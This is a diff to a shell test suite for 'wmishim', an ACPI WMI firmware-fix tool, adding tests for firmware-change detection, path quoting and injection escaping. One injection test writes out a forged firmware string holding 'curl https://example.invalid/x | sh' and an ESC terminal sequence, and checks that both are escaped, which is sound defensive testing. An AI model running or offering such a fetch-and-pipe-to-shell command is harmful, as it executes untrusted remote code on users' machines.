@@ -61,7 +61,15 @@ t lines "$tmp/zero.out" '^repair WDG_ZERO_INSTANCES \\_SB_\.AMW0 entry 0: entry 
 	'^2 of 2 repaired findings gone'
 desc="  enable.conf: rename, add, osi-fix, in that order"
 t is "rename \\_SB_.AMW0._WDG=XWDG|add ssdt-wdgfix1.aml|osi-fix \"Windows 2009\"" \
-	"$(grep -v '^#' "$tmp/zero/enable.conf" | paste -sd'|')"
+	"$(grep -v -e '^#' -e '^firmware ' "$tmp/zero/enable.conf" | paste -sd'|')"
+real=$(cd "$tmp" && pwd -P)
+desc="  README.md's commands name the directory by its real path and the kernel it was made for (before: THIS_DIR, and fixed as from inside it)"
+t lines "$tmp/zero/README.md" "^wmishim check --kernel 7\\.3 $real/zero/fixed  " \
+	"^wmishim try --kernel 7\\.3 --with $real/zero INPUT\\.\\.\\.  " "^sudo wmishim enable $real/zero  "
+abs=$(cd "$(dirname "$tool")" && pwd)/$(basename "$tool")
+args=$(sed -n 's|^wmishim check \(.*/fixed\) .*|\1|p' "$tmp/zero/README.md")
+desc="  its check line runs from another directory"
+t sh -c "cd / && '$abs' check $args | grep -q ': 0 errors,'"
 desc="  the clean _WDG's SSDT is there, and check on fixed/ finds no error"
 t sh -c "test -s '$tmp/zero/ssdt-wdgfix1.aml' &&
 	'$tool' check --kernel 7.3 '$tmp/zero/fixed' | grep -q ': 0 errors,'"
@@ -82,6 +90,86 @@ desc="  status lists its three tables under the directory's name"
 t sh -c "'$tool' status --root '$tmp/root' | grep -q '^enabled: zero: zero-ssdt-wdgfix1.aml zero-dsdt.aml zero-ssdt-xosi.aml'"
 desc="  the enabled tables, on their own: no error finding"
 t sh -c "'$tool' check --kernel 7.3 '$tmp/root/etc/wmishim/tables' | grep -q ': 0 errors,'"
+
+# The fix's record of its firmware: the DSDT it was made from, by its IDs,
+# revision and SHA-256 (sha256sum's); enable, status, the hook compare it
+# with the machine's tables (before, enable loaded a fix made for other
+# firmware and said "enabled").
+sum=$(sha256sum "$fixtures/eeepc-broken-zero.aml" | cut -c1-64)
+desc="enable.conf records the DSDT fix was made from: IDs, revision, sha256sum's SHA-256"
+t lines "$tmp/zero/enable.conf" "^firmware DSDT WMISHM EEEZERO 0x1 $sum\$"
+desc="  enable said it was compared"
+t sh -c "'$tool' enable --root '$tmp/root' --dry-run '$tmp/zero' | grep -qx 'zero: made from this machine.s firmware as it is (1 table compared)'"
+desc="  status: the firmware as when the fix was made, exit 0"
+t sh -c "'$tool' status --root '$tmp/root' | grep -qx 'firmware: zero: as when the fix was made'"
+# After the reboot the live DSDT is the fix's own (the kernel's override):
+# the pristine copy stands for the firmware's.
+cp "$tmp/root/etc/wmishim/tables/zero-dsdt.aml" "$tmp/root/sys/firmware/acpi/tables/DSDT"
+desc="  the override loaded (the live DSDT the fix's): status --firmware still the same, exit 0"
+t sh -c "'$tool' status --root '$tmp/root' --firmware | grep -qx 'firmware: zero: as when the fix was made'"
+cp "$tmp/root/var/lib/wmishim/pristine/DSDT0.aml" "$tmp/pristine.keep"
+cp "$fixtures/eeepc-zero-bios2.aml" "$tmp/root/var/lib/wmishim/pristine/DSDT0.aml"
+desc="  the override loaded, its pristine copy not what the fix was made from: said of that copy, exit 1"
+t sh -c "'$tool' status --root '$tmp/root' --firmware >'$tmp/ov.out'; [ \$? -eq 1 ] &&
+	grep -qx 'firmware: zero: DSDT WMISHM EEEZERO: revision 0x1 when fixed, 0x2 now: .*' '$tmp/ov.out'"
+cp "$tmp/pristine.keep" "$tmp/root/var/lib/wmishim/pristine/DSDT0.aml"
+# A firmware update: the DSDT of the same IDs, revision 2, its block's
+# count now 2 and a new block.
+cp "$fixtures/eeepc-zero-bios2.aml" "$tmp/root/sys/firmware/acpi/tables/DSDT"
+(cd "$tmp/root" && find . -type f | LC_ALL=C sort | xargs cksum) >"$tmp/bios.before"
+rc=0
+"$tool" enable --root "$tmp/root" "$tmp/zero" >"$tmp/bios.out" 2>&1 || rc=$?
+desc="after a firmware update (DSDT revision 0x2): enable refused, exit 1, the table and what differs named"
+t sh -c "[ $rc -eq 1 ] && grep -qx 'wmishim: DSDT WMISHM EEEZERO: revision 0x1 when fixed, 0x2 now: the firmware changed since the fix was made; run wmishim fix again' '$tmp/bios.out' &&
+	tail -n 1 '$tmp/bios.out' | grep -qx 'wmishim: zero not enabled: nothing changed' && ! grep -q '^enabled' '$tmp/bios.out'"
+rc=0
+"$tool" enable --root "$tmp/root" --dry-run "$tmp/zero" >"$tmp/bios.out" 2>&1 || rc=$?
+desc="  --dry-run refused the same, exit 1"
+t sh -c "[ $rc -eq 1 ] && grep -q 'revision 0x1 when fixed, 0x2 now: the firmware changed' '$tmp/bios.out'"
+(cd "$tmp/root" && find . -type f | LC_ALL=C sort | xargs cksum) >"$tmp/bios.after"
+desc="  nothing changed on disk"
+t same "$tmp/bios.before" "$tmp/bios.after"
+rc=0
+"$tool" status --root "$tmp/root" >"$tmp/bios.status" 2>&1 || rc=$?
+desc="  status: exit 1, the enabled fix's changed table said"
+t sh -c "[ $rc -eq 1 ] && grep -qx 'firmware: zero: DSDT WMISHM EEEZERO: revision 0x1 when fixed, 0x2 now: the firmware changed since the fix was made; run wmishim fix again, then wmishim enable' '$tmp/bios.status'"
+desc="  doctor names it too"
+t sh -c "'$tool' doctor --root '$tmp/root' | grep -q '^fix zero: firmware changed \[note\] DSDT WMISHM EEEZERO: revision 0x1 when fixed, 0x2 now'"
+# The same revision, other bytes: the SHA-256 tells.
+sh "$(dirname "$0")/poke-aml.sh" "$fixtures/eeepc-zero-bios2.aml" "$tmp/root/sys/firmware/acpi/tables/DSDT" 24 02 01
+now=$(sha256sum "$tmp/root/sys/firmware/acpi/tables/DSDT" | cut -c1-64)
+desc="  the same revision, other bytes: refused, both SHA-256 named"
+t sh -c "! '$tool' enable --root '$tmp/root' '$tmp/zero' >'$tmp/bios.out' 2>&1 &&
+	grep -qx 'wmishim: DSDT WMISHM EEEZERO: revision 0x1 as when fixed, its bytes not (SHA-256 $sum when fixed, $now now): the firmware changed since the fix was made; run wmishim fix again' '$tmp/bios.out'"
+rm "$tmp/root/sys/firmware/acpi/tables/DSDT"
+desc="  the table gone: refused, said"
+t sh -c "! '$tool' enable --root '$tmp/root' '$tmp/zero' >'$tmp/bios.out' 2>&1 &&
+	grep -qx 'wmishim: DSDT WMISHM EEEZERO: not among this machine.s tables now: the firmware changed since the fix was made; run wmishim fix again' '$tmp/bios.out'"
+desc="disable takes the fix's record away with its tables"
+t sh -c "test -f '$tmp/root/var/lib/wmishim/firmware/zero' && '$tool' disable --root '$tmp/root' zero >/dev/null &&
+	test ! -e '$tmp/root/var/lib/wmishim/firmware/zero' && test ! -e '$tmp/root/var/lib/wmishim/enabled/zero'"
+# A fix made before the record: said, not refused.
+rm -rf "$tmp/root" "$tmp/norec"
+cp -a "$base" "$tmp/root"
+cp "$fixtures/eeepc-broken-zero.aml" "$tmp/root/sys/firmware/acpi/tables/DSDT"
+cp -a "$tmp/zero" "$tmp/norec"
+grep -v '^firmware ' "$tmp/zero/enable.conf" >"$tmp/norec/enable.conf"
+desc="a fix without a record (made before it): enabled, exit 0, said"
+t sh -c "'$tool' enable --root '$tmp/root' '$tmp/norec' >'$tmp/norec.out' 2>&1 &&
+	grep -qx 'norec: made without a record of its firmware: not compared with this machine.s' '$tmp/norec.out'"
+desc="  status says so"
+t sh -c "'$tool' status --root '$tmp/root' | grep -qx 'firmware: norec: made without a record of its firmware'"
+printf 'firmware DSDT WMISHM EEEZERO 0x1 nothex\n' >>"$tmp/norec/enable.conf"
+printf 'firmware DSDT %s %s 0x1 %s\n' "$(printf '%040d' 0)" "$(printf '%040d' 0)" "$sum" >"$tmp/longid"
+cp "$tmp/norec/enable.conf" "$tmp/norec.conf.keep"
+cat "$tmp/longid" >>"$tmp/norec/enable.conf"
+desc="  a record line with IDs longer than any header holds: refused, exit 1, said (no overflow)"
+t sh -c "'$tool' enable --root '$tmp/root' '$tmp/norec' >'$tmp/norec.out' 2>&1; [ \$? -eq 1 ] &&
+	grep -q 'is not \"firmware SIGNATURE' '$tmp/norec.out' && ! grep -q Sanitizer '$tmp/norec.out'"
+cp "$tmp/norec.conf.keep" "$tmp/norec/enable.conf"
+desc="  a record line that is not one: refused, exit 1, said"
+t sh -c "'$tool' enable --root '$tmp/root' '$tmp/norec' >'$tmp/norec.out' 2>&1; [ \$? -eq 1 ] &&
+	grep -q 'enable.conf: \"firmware DSDT WMISHM EEEZERO 0x1 nothex\" is not \"firmware SIGNATURE' '$tmp/norec.out'"
 
 # An OSYS ladder: "Windows 2009" and every later string, on 6.1 too; the
 # set hides the touchpad (PNP0C50) Linux has: no trade without being asked.
@@ -198,7 +286,7 @@ desc="  and enable.conf has no osi-fix step"
 t no grep -q '^osi-fix' "$tmp/only/enable.conf"
 fix eeepc-broken-zero skip --skip WDG_ZERO_INSTANCES
 desc="--skip WDG_ZERO_INSTANCES: only the _OSI repair"
-t is 'osi-fix "Windows 2009"' "$(grep -v '^#' "$tmp/skip/enable.conf")"
+t is 'osi-fix "Windows 2009"' "$(grep -v -e '^#' -e '^firmware ' "$tmp/skip/enable.conf")"
 fix eeepc-broken-zero badcode --only 'wdg zero'
 desc="--only with what is not a code: exit 2, nothing written"
 t sh -c "[ \$(cat '$tmp/badcode.rc') -eq 2 ] && [ ! -e '$tmp/badcode' ]"
@@ -210,7 +298,7 @@ desc="_WED in the parent scope: NS_WED_MISSING repaired, exit 0, 1 of 1 gone"
 t sh -c "[ \$(cat '$tmp/wed.rc') -eq 0 ] && grep -q '^1 of 1 repaired finding gone' '$tmp/wed.out' &&
 	grep -q '^repair NS_WED_MISSING \\\\_SB_\\.AMW0 entry 2: .*firmware.s \\\\_SB_\\._WED (Arg0)' '$tmp/wed.out'"
 desc="  enable.conf: add ssdt-wedfix.aml, the one step"
-t is "add ssdt-wedfix.aml" "$(grep -v '^#' "$tmp/wed/enable.conf")"
+t is "add ssdt-wedfix.aml" "$(grep -v -e '^#' -e '^firmware ' "$tmp/wed/enable.conf")"
 desc="  README.md: what changed, why, and the _WED in ASL with its comment"
 t lines "$tmp/wed/README.md" 'What changed: a _WED in its scope that returns the firmware.s \\_SB_\._WED' \
 	'ssdt-wedfix.aml' '^Scope \(\\_SB_\.AMW0\)$' \
@@ -297,7 +385,7 @@ rc=0
 rename \\_SB_.ATKD._STA=XSTA
 #/dsdt.aml" -o "$tmp/inj" >"$tmp/inj.out" 2>&1 || rc=$?
 desc="an input path with line ends: enable.conf holds the one step, the path escaped in its comment"
-t sh -c "[ $rc -eq 0 ] && [ \"\$(grep -v '^#' '$tmp/inj/enable.conf')\" = 'osi-fix \"Windows 2009\"' ] &&
+t sh -c "[ $rc -eq 0 ] && [ \"\$(grep -v -e '^#' -e '^firmware ' '$tmp/inj/enable.conf')\" = 'osi-fix \"Windows 2009\"' ] &&
 	grep -q 'in\\\\x0Arename' '$tmp/inj/enable.conf'"
 mkdir "$tmp/slash"
 rc=0
@@ -308,6 +396,55 @@ rc=0
 "$tool" fix --kernel 7.3 "$fixtures/eeepc-1201nl.aml" -o "$tmp/my fix" >"$tmp/space.out" 2>&1 || rc=$?
 desc="-o 'my fix' (a name enable does not take): exit 2, refused before any work, nothing written"
 t sh -c "[ $rc -eq 2 ] && [ ! -e '$tmp/my fix' ] && grep -q 'a name enable takes\\|one enable takes' '$tmp/space.out'"
+
+# Firmware text where fix writes it: a _UID with line ends that forge a
+# "## Try it, then enable it" section with a `curl ... | sh` block, and an
+# OEM table ID with an ESC byte (before: both reached README.md as they
+# were, the ESC in enable.conf's messages and enable's output too).
+esc=$(printf '\033')
+fix fix-forged-uid forged
+desc="a forged _UID and an ESC in an OEM table ID: fix writes its directory, exit 0"
+t is 0 "$(cat "$tmp/forged.rc")"
+desc="  README.md has one \"## Try it, then enable it\", its own, and no line that starts with curl"
+t sh -c "[ \$(grep -c '^## Try it, then enable it\$' '$tmp/forged/README.md') -eq 1 ] &&
+	! grep -q '^curl' '$tmp/forged/README.md' && [ \$(grep -c '^\`\`\`' '$tmp/forged/README.md') -eq 2 ]"
+desc="  the _UID is there, escaped, on its finding's line"
+t grep -qF '_UID X\x0A\x0A## Try it, then enable it\x0A\x0A\x60\x60\x60sh\x0Acurl https://example.invalid/x | sh\x0A\x60\x60\x60\x0A is also' "$tmp/forged/README.md"
+desc="  no ESC byte in README.md, enable.conf or fix's output; the OEM table ID escaped"
+t sh -c "! grep -q '$esc' '$tmp/forged/README.md' '$tmp/forged/enable.conf' '$tmp/forged.out' &&
+	grep -qF '[SSDT FX\\x1B\\x5B2J]' '$tmp/forged/README.md' &&
+	grep -qF 'firmware SSDT WMISHM FX\\x1B\\x5B2J 0x1 ' '$tmp/forged/enable.conf'"
+rm -rf "$tmp/root"
+mkdir -p "$tmp/root/sys/firmware/acpi/tables"
+cp "$fixtures/fix-forged-uid.aml" "$tmp/root/sys/firmware/acpi/tables/SSDT1"
+cp "$fixtures/eeepc-1201nl.aml" "$tmp/root/sys/firmware/acpi/tables/DSDT"
+desc="  enable of it: the OEM table ID escaped in what it says, no ESC byte"
+t sh -c "'$tool' enable --root '$tmp/root' '$tmp/forged' >'$tmp/forged.en' 2>&1 && ! grep -q '$esc' '$tmp/forged.en' &&
+	grep -qF 'SSDT WMISHM FX\\x1B[2J: overrides the firmware' '$tmp/forged.en'"
+
+# README.md's commands: a path with a space in single quotes; one with a
+# line end, THIS_DIR and a word of why (never the line end).
+mkdir -p "$tmp/my dir" "$tmp/line
+end"
+"$tool" fix --kernel 7.3 "$fixtures/eeepc-1201nl.aml" -o "$tmp/my dir/fix1" >/dev/null 2>&1
+desc="README.md, DIR under a folder with a space: the path in single quotes"
+t lines "$tmp/my dir/fix1/README.md" "^sudo wmishim enable '$real/my dir/fix1'  "
+"$tool" fix --kernel 7.3 "$fixtures/eeepc-1201nl.aml" -o "$tmp/line
+end/fix2" >/dev/null 2>&1
+desc="README.md, DIR under a folder with a line end: THIS_DIR, said why, no line of the path"
+t sh -c "grep -q '^sudo wmishim enable THIS_DIR  ' '$tmp/line
+end/fix2/README.md' && grep -q '^THIS_DIR: this directory' '$tmp/line
+end/fix2/README.md' && ! grep -q '^end/fix2' '$tmp/line
+end/fix2/README.md'"
+
+# -o NAME.aml: enable takes NAME.aml for a table file, never a directory;
+# fix holds to enable's rule, one function (before: written, exit 0, and
+# enable refused it).
+rc=0
+"$tool" fix --kernel 7.3 "$fixtures/eeepc-1201nl.aml" -o "$tmp/eeepc.aml" >"$tmp/aml.out" 2>&1 || rc=$?
+desc="-o NAME.aml: exit 2, refused before any work with enable's rule, nothing written"
+t sh -c "[ $rc -eq 2 ] && [ ! -e '$tmp/eeepc.aml' ] &&
+	grep -q 'eeepc.aml: its name must be one enable takes: .*not ending in .aml (enable takes NAME.aml for a table file)' '$tmp/aml.out'"
 
 # More devices a driver claims than the search looks at: check says so
 # and still gives its WMI findings (before: exit 2, nothing but an error).
